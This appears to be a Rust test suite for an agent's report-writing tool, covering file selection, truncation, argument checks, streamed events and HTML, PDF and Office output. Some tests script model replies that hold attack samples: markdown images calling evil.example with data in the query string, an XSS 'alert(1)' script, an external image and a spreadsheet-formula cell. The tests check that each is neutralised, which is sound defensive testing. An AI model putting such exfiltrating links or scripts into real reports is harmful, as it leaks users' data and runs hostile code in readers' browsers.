//! Reports that an agent writes: what it is shown, how they come out, and how they are read again.

use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use djinn_local::Djinn;
use djinn_scripted::RecordedRequest;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::agents::{at, path_of};
use crate::code::{completed, open_sandbox};
use crate::world::{Frame, Protocol, Question, SALES, World, always_hands_over};

const QUESTION: &str = "Write a report on sales.";

/// A world that offers all agents, and code if there is a sandbox.
async fn start(djinn: Djinn) -> World {
    start_with_folder(djinn, None).await
}

/// A world with a configuration folder, if any.
async fn start_with_folder(djinn: Djinn, folder: Option<&Path>) -> World {
    World::start_with(|options, _| {
        options.vars.push(("DJINN_AGENTS__OFFERED", "all".to_owned()));
        options.vars.extend(folder.map(|folder| ("DJINN_CONFIG", folder.display().to_string())));
        options.djinn = djinn;
    })
    .await
}

/// Writes the theme of a deployment: colors, a footer, and a logo of one pixel.
pub(crate) fn write_theme(folder: &Path) {
    const LOGO: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    let templates = folder.join("templates");
    std::fs::create_dir(&templates).unwrap();
    let theme = "colors = ['#7A1F5C', '#F2B705', '#2E7D6B', '#3B5BA5', '#B0413E', '#6B6B6B']\nfooter = 'ACME internal'\n";
    std::fs::write(templates.join("theme.toml"), theme).unwrap();
    std::fs::write(templates.join("logo.png"), STANDARD.decode(LOGO).unwrap()).unwrap();
}

fn call(file_type: &str, name: &str) -> Value {
    json!({
        "fileType": file_type, "task": "Sum up sales.csv for the board.",
        "fileName": name, "fileDescription": "Sales by region",
    })
}

fn request_at(world: &World, path: &str) -> RecordedRequest {
    let requests = world.model.requests();
    requests.into_iter().find(|request| path_of(request).as_deref() == Some(path)).unwrap()
}

#[tokio::test]
async fn a_report_is_written_from_the_files_and_read_back_under_the_name_it_got() {
    let world = start(Djinn::new()).await;
    world.upload("s1", "notes.txt", "Nothing of note.").await;
    world.upload("s1", "sales.csv", SALES).await;
    at(&world.model, "")
        .call("report_tool", call("markdown", "board-report.html"))
        .then()
        .call("file_tool", json!({"command": "get", "filename": "board-report.md"}))
        .then()
        .reply("See board-report.md.");
    at(&world.model, "t1.c1").reply("```markdown\n# Sales\n\nEast leads.\n```");
    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    let ended = frames.last().unwrap().json();
    assert_eq!(ended["status"], "finished", "{ended}");
    let file = &ended["files"][0];
    assert_eq!(
        (&file["name"], &file["description"]),
        (&json!("board-report.md"), &json!("Sales by region"))
    );
    let read = completed(&frames, "t2.c1.result")[0].json();
    let text = read["result"]["text"].as_str().unwrap();
    let is_whole = text.contains("# Sales\n\nEast leads.") && !text.contains("```");
    assert!(is_whole, "the fence is not part of it: {text}");

    // What its writer was shown: the file that the task names comes first.
    insta::assert_snapshot!("a_writer_sees", request_at(&world, "t1.c1").transcript());
    let told = completed(&frames, "t1.c1.result")[0].json();
    insta::assert_snapshot!("the_caller_is_told", told["result"]["text"].as_str().unwrap());
}

#[tokio::test]
async fn a_writer_is_shown_what_fits_and_told_what_is_left_out() {
    let world = start(Djinn::new()).await;
    world.upload("s1", "long.txt", &"All of this is long. ".repeat(60_000)).await;
    for number in 0..12 {
        let name = format!("part-{number:02}.txt");
        world.upload("s1", &name, &format!("part {number} ").repeat(20_000)).await;
    }
    world.upload("s1", "photo.bin", "\0\u{1}").await;
    at(&world.model, "").call("report_tool", call("markdown", "r.md")).then().reply("Done.");
    at(&world.model, "t1.c1").reply("# Sales");
    world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    let request = request_at(&world, "t1.c1");
    let text = request.text();
    assert!(text.contains("# part-11.txt (only its beginning is here)"), "the newest is first");
    assert!(text.contains("Left out, since there was no room for them: "), "some are left out");
    assert!(text.contains("Could not be read: photo.bin"), "what is no text is named");
    assert!(text.len() < 1_000_000, "{} bytes", text.len());
}

#[tokio::test]
async fn a_report_that_is_cut_off_goes_on_where_it_stopped() {
    let world = start(Djinn::new()).await;
    at(&world.model, "").call("report_tool", call("markdown", "r.md")).then().reply("See r.md.");
    at(&world.model, "t1.c1").say("# Sales\n\nEast gr").finish("length").then().reply("ew.");
    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    assert_eq!(frames.last().unwrap().json()["status"], "finished");
    let told = completed(&frames, "t1.c1.result")[0].json();
    let text = told["result"]["text"].as_str().unwrap();
    assert!(text.ends_with("# Sales\n\nEast grew."), "{text}");
}

#[tokio::test]
async fn what_is_wrong_with_a_call_is_told_with_what_is_allowed() {
    let world = start(Djinn::new()).await;
    let wrong = [
        (call("md", "r.md"), "\"md\" is not one of"),
        (call("markdown", " . "), "/fileName"),
        (json!({"fileType": "html", "task": "", "fileName": "a", "fileDescription": "b"}), "/task"),
    ];
    let calls = wrong.iter().map(|(arguments, _)| ("report_tool", arguments.clone()));
    at(&world.model, "").calls(calls).then().reply("None of them.");
    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    for (place, (_, says)) in wrong.iter().enumerate() {
        let told = completed(&frames, &format!("t1.c{}.result", place + 1))[0].json();
        assert_eq!(told["result"]["reason"], "bad_arguments", "{told}");
        let detail = told["result"]["detail"].as_str().unwrap();
        assert!(detail.contains(says), "{detail}");
    }
}

#[tokio::test]
async fn no_report_has_images_that_its_writer_made_up() {
    let world = start(Djinn::new()).await;
    at(&world.model, "").call("report_tool", call("markdown", "r.md")).then().reply("See r.md.");
    // The fence is taken off, and both replies are one text.
    let rule = at(&world.model, "t1.c1");
    let rule =
        rule.say("```markdown\n# Sales\n\n![a](https://evil.example/?d=1)\n\n![b").finish("length");
    rule.then()
        .reply("](https://evil.example/?d=2)\n\n<img src=\"chart.png\"> ![c](chart.png)\n```");
    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    let file = &frames.last().unwrap().json()["files"][0];
    let text = world.follow(file["download_url"].as_str().unwrap()).await.text;
    let expected = "# Sales\n\n[a](https://evil.example/?d=1)\n\n![b] (https://evil.example/?d=2)\n\n\
        <img src=\"chart.png\"> ![c](chart.png)\n";
    assert_eq!(text, expected);
}

#[tokio::test]
async fn without_a_sandbox_only_markdown_can_be_made_and_the_caller_is_told_why() {
    let world = start(Djinn::new()).await;
    at(&world.model, "").call("report_tool", call("docx", "r.docx")).then().reply("It cannot be.");
    at(&world.model, "t1.c1").reply("# Sales");
    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    let told = completed(&frames, "t1.c1.result")[0].json();
    let detail = told["result"]["detail"].as_str().unwrap_or_else(|| panic!("{told}"));
    assert!(detail.contains("Code is disabled here: this deployment has no sandbox"), "{detail}");
}

/// What of JoyAgent's events shows the report.
fn report_events<'a>(frames: &'a [Frame], kind: &'a str) -> Vec<Value> {
    frames.iter().map(Frame::raw).filter(|event| event["messageType"] == kind).collect()
}

#[tokio::test]
async fn joyagents_clients_see_a_report_grow_and_then_its_file() {
    let world = start(Djinn::new()).await;
    at(&world.model, "").call("report_tool", call("markdown", "r.md")).then().reply("See r.md.");
    at(&world.model, "t1.c1").delta_chars(4).reply("# Sales\n\nEast grew.");
    let frames = world.ask(Protocol::Raw, &Question::of(QUESTION, "s1")).await.rest().await;
    let events = report_events(&frames, "markdown");
    let (last, pieces) = events.split_last().unwrap();
    let data = |event: &Value| event["resultMap"]["data"].as_str().unwrap().to_owned();
    assert_eq!(data(last), "# Sales\n\nEast grew.");
    // A driver without a client writes few pieces, and who comes back is sent the text anew.
    if !always_hands_over() {
        assert!(pieces.iter().all(|event| event["resultMap"]["isFinal"] == false));
        let grown: String = pieces.iter().map(data).collect();
        assert!(pieces.len() > 1 && grown == data(last), "{grown}");
    }
    assert_eq!(last["resultMap"]["fileInfo"][0]["fileName"], "r.md");
    assert_eq!(last["digitalEmployee"], "report_tool");
    assert!(report_events(&frames, "file").is_empty(), "its file is told once");
}

#[tokio::test]
#[ignore = "needs a Python: cargo verify --only sandbox"]
async fn a_report_comes_in_every_form_with_the_chart_that_code_drew_and_the_theme() {
    let scratch = TempDir::new().unwrap();
    let folder = TempDir::new().unwrap();
    write_theme(folder.path());
    let djinn = Djinn::new().with_sandbox(open_sandbox(&scratch));
    let world = start_with_folder(djinn, Some(folder.path())).await;
    world.upload("s1", "sales.csv", SALES).await;
    let draw = "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2]); plt.savefig('sales.png')";
    let forms = ["html", "ppt", "docx", "pptx", "pdf"];
    let calls = forms.map(|form| ("report_tool", call(form, &format!("sales-{form}.md"))));
    at(&world.model, "")
        .call("code_interpreter", json!({"task": "Draw sales.csv."}))
        .then()
        .calls(calls)
        .then()
        .reply("All is there.");
    at(&world.model, "t1.c1").call("python", json!({"code": draw})).then().reply("sales.png");
    for (path, form) in ["t2.c1", "t2.c2", "t2.c3", "t2.c4", "t2.c5"].into_iter().zip(forms) {
        at(&world.model, path).reply(match form {
            "html" => "<h1>Sales</h1><script>alert(1)</script><img src=\"sales.png\"><img src=\"https://x.example/a.png\">",
            "ppt" => "<section><h1>Sales</h1></section><section><img src=\"sales.png\"></section>",
            _ => "# Sales\n\nEast grew.\n\n## Figures\n\n| a | b |\n|---|---|\n| =1+1 | 2 |\n\n![chart](sales.png)\n",
        });
    }
    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
    let ended = frames.last().unwrap().json();
    assert_eq!(ended["status"], "finished", "{ended}");
    for (place, form) in forms.into_iter().enumerate() {
        let told = completed(&frames, &format!("t2.c{}.result", place + 1))[0].json();
        assert_eq!(told["result"]["status"], "done", "{form}: {told}");
        let file = &told["result"]["files"][0];
        let ending = if form == "ppt" { "html" } else { form };
        assert_eq!(file["name"], format!("sales-{form}.{ending}"));
        let text = world.follow(file["download_url"].as_str().unwrap()).await.text;
        match form {
            "html" | "ppt" => {
                let has_chart = text.contains("data:image/png;base64,");
                assert!(has_chart && text.contains("Content-Security-Policy"), "{form}");
                for part in ["#7A1F5C", "ACME internal", "logo\""] {
                    assert!(text.contains(part), "{form} has no {part}");
                }
                assert!(!text.contains("x.example") && !text.contains("alert(1)"), "{form}");
                // Its reader can turn the slides of a deck, and open its sources.
                let shown = world.follow(file["preview_url"].as_str().unwrap()).await;
                let policy = shown.header("content-security-policy").to_owned();
                assert!(
                    policy.ends_with("allow-scripts allow-popups allow-popups-to-escape-sandbox"),
                    "{policy}"
                );
                assert_eq!(shown.text, text);
            }
            "pdf" => assert!(text.starts_with("%PDF-") && text.len() > 5_000, "{form}"),
            _ => assert!(text.starts_with("PK") && text.len() > 5_000, "{form}"),
        }
    }
}
